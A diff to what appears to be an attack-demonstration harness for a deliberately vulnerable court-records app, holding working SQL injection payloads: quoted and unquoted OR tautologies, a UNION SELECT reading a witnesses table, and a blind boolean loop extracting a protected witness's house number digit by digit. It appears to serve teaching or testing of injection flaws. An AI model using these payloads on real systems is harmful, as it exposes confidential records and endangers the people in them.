@@ -12,8 +12,12 @@ def sealed_title(res):
 
 @attack('no quote is needed: "or" stands next to a number', input="0 OR sealed = 1")
 def _():
-    title = sealed_title(send("0 OR sealed = 1"))
-    return breached(title, f"the title of a sealed case: {title}")
+    # Where the number has been put in quotes, the attacker brings quotes as well.
+    for number in ("0 OR sealed = 1", "0' OR sealed = '1"):
+        title = sealed_title(send(number))
+        if title:
+            return breached(True, f"the title of a sealed case: {title}")
+    return breached(False)
 
 
 @attack("a second SELECT is glued on and reads another table", input="0 UNION SELECT 1, name, address FROM witnesses")
@@ -37,12 +41,12 @@ def _():
     return breached(opened > 0, f"{opened} sealed cases opened to everyone, for good")
 
 
-@attack("only yes-or-no answers are needed to read a secret letter by letter", input="1041 AND (SELECT substr(address,1,1) FROM witnesses)='1'")
+@attack("only yes-or-no answers are needed to read a secret digit by digit", input="1041 AND (SELECT substr(address,1,1) FROM witnesses)='1'")
 def _():
-    address = ""
-    for place in range(1, 16):
-        for letter in "14HarbouLne 32MilSt":
-            if send(f"1041 AND (SELECT substr(address,{place},1) FROM witnesses WHERE name='R. S.')='{letter}'").status == 200:
-                address += letter
+    number = ""
+    for place in (1, 2):
+        for digit in "0123456789":
+            if send(f"1041 AND (SELECT substr(address,{place},1) FROM witnesses WHERE name='R. S.')='{digit}'").status == 200:
+                number += digit
                 break
-    return breached(address == "14 Harbour Lane", f"the address of a protected witness, {address}, one letter at a time")
+    return breached(number == "14", f"the house number of a protected witness, {number}, without ever seeing the table")
